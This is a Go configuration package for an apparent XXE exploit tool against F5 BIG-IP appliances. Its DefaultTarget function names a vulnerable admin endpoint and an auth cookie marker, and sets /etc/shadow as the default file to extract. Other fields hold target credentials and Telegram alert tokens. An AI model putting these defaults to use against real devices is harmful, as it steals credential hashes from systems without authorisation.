package config

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"github.com/jinzhu/configor"
	"gopkg.in/yaml.v2"
)

const (
	defaultConfigName = "config.yaml"
	configDirName     = ".bigipxxe"
	envPrefix         = "BIGIPXXE"
)

// Config represents the full runtime configuration for bigipxxe.
type Config struct {
	General    GeneralConfig       `yaml:"general"`
	Database   DatabaseConfig      `yaml:"database"`
	Logging    LoggingConfig       `yaml:"logging"`
	Scanning   ScanningConfig      `yaml:"scanning"`
	Target     TargetConfig        `yaml:"target"`
	Extraction ExtractionConfig    `yaml:"extraction"`
	Notify     NotificationsConfig `yaml:"notifications"`
}

type GeneralConfig struct {
	DataDir string `yaml:"data_dir"`
	Proxy   string `yaml:"proxy"`
}

type DatabaseConfig struct {
	Path string `yaml:"path"`
}

type LoggingConfig struct {
	Level        string `yaml:"level"`
	ConsoleLevel string `yaml:"console_level"`
	FileEnabled  bool   `yaml:"file_enabled"`
	FilePath     string `yaml:"file_path"`
	MaxSizeMB    int    `yaml:"max_size_mb"`
	MaxBackups   int    `yaml:"max_backups"`
	Color        bool   `yaml:"color"`
}

type ScanningConfig struct {
	TimeoutSeconds   int    `yaml:"timeout_seconds"`
	Threads          int    `yaml:"threads"`
	RateLimitPerHost int    `yaml:"rate_limit_per_host"`
	UserAgent        string `yaml:"user_agent"`
}

// TargetConfig holds the per-run exploit options. Every field can be
// overridden from the command line.
type TargetConfig struct {
	Port                int    `yaml:"port"`
	SSL                 bool   `yaml:"ssl"`
	LoginURI            string `yaml:"login_uri"`
	TargetURI           string `yaml:"target_uri"`
	RemoteFile          string `yaml:"remote_file"`
	Username            string `yaml:"username"`
	Password            string `yaml:"password"`
	CookieMarker        string `yaml:"cookie_marker"`
	LoginFailurePattern string `yaml:"login_failure_pattern"`
}

// ExtractionConfig describes the diagnostic wrapper the target puts around
// the expanded entity.
type ExtractionConfig struct {
	PreambleLength        int    `yaml:"preamble_length"`
	TrailerLength         int    `yaml:"trailer_length"`
	BadRequestSignature   string `yaml:"bad_request_signature"`
	GeneralErrorSignature string `yaml:"general_error_signature"`
}

type NotificationsConfig struct {
	TelegramToken  string `yaml:"telegram_token"`
	TelegramChatID string `yaml:"telegram_chat_id"`
}

// Load loads configuration from disk and applies defaults. A default file is
// written when none exists yet.
func Load(pathOverride string) (*Config, string, error) {
	cfgDir, err := ensureConfigDir()
	if err != nil {
		return nil, "", err
	}

	cfgPath := pathOverride
	if strings.TrimSpace(cfgPath) == "" {
		cfgPath = filepath.Join(cfgDir, defaultConfigName)
	}

	cfg := defaultConfig(cfgDir)

	if _, err := os.Stat(cfgPath); errors.Is(err, os.ErrNotExist) {
		if err := Save(cfg, cfgPath); err != nil {
			return nil, "", err
		}
	} else if err != nil {
		return nil, "", err
	}

	loader := configor.New(&configor.Config{
		ENVPrefix:            envPrefix,
		ErrorOnUnmatchedKeys: true,
	})
	if err := loader.Load(cfg, cfgPath); err != nil {
		return nil, "", fmt.Errorf("config: load %s: %w", cfgPath, err)
	}

	hydrate(cfg, cfgDir)
	return cfg, cfgPath, nil
}

func ensureConfigDir() (string, error) {
	home, err := os.UserHomeDir()
	if err != nil {
		return "", err
	}
	cfgDir := filepath.Join(home, configDirName)
	if err := os.MkdirAll(cfgDir, 0o700); err != nil {
		return "", err
	}
	return cfgDir, nil
}

func defaultConfig(cfgDir string) *Config {
	dataDir := filepath.Join(cfgDir, "data")
	logDir := filepath.Join(cfgDir, "logs")

	return &Config{
		General: GeneralConfig{
			DataDir: dataDir,
		},
		Database: DatabaseConfig{
			Path: filepath.Join(dataDir, "bigipxxe.json"),
		},
		Logging: LoggingConfig{
			Level:        "info",
			ConsoleLevel: "info",
			FileEnabled:  true,
			FilePath:     filepath.Join(logDir, "bigipxxe.log"),
			MaxSizeMB:    10,
			MaxBackups:   5,
			Color:        true,
		},
		Scanning: ScanningConfig{
			TimeoutSeconds: 20,
			Threads:        4,
			UserAgent:      "Mozilla/5.0 (compatible; bigipxxe/1.0)",
		},
		Target: DefaultTarget(),
		Extraction: ExtractionConfig{
			PreambleLength:        38,
			TrailerLength:         1,
			BadRequestSignature:   "Bad request",
			GeneralErrorSignature: "generalError",
		},
	}
}

// DefaultTarget returns the stock exploit options for F5 BIG-IP.
func DefaultTarget() TargetConfig {
	return TargetConfig{
		Port:                443,
		SSL:                 true,
		LoginURI:            "/tmui/logmein.html?msgcode=2&",
		TargetURI:           "/sam/admin/vpe2/public/php/server.php",
		RemoteFile:          "/etc/shadow",
		CookieMarker:        "BIGIPAuthCookie",
		LoginFailurePattern: `/login\.jsp`,
	}
}

func hydrate(cfg *Config, cfgDir string) {
	if cfg.General.DataDir == "" {
		cfg.General.DataDir = filepath.Join(cfgDir, "data")
	}
	if cfg.Logging.FilePath == "" {
		cfg.Logging.FilePath = filepath.Join(cfgDir, "logs", "bigipxxe.log")
	}
	if cfg.Database.Path == "" {
		cfg.Database.Path = filepath.Join(cfg.General.DataDir, "bigipxxe.json")
	}
	if cfg.Scanning.Threads <= 0 {
		cfg.Scanning.Threads = 1
	}
}

// Save writes configuration back to disk.
func Save(cfg *Config, path string) error {
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		return err
	}
	data, err := yaml.Marshal(cfg)
	if err != nil {
		return fmt.Errorf("config: encode: %w", err)
	}
	// the file may hold target credentials
	return os.WriteFile(path, data, 0o600)
}
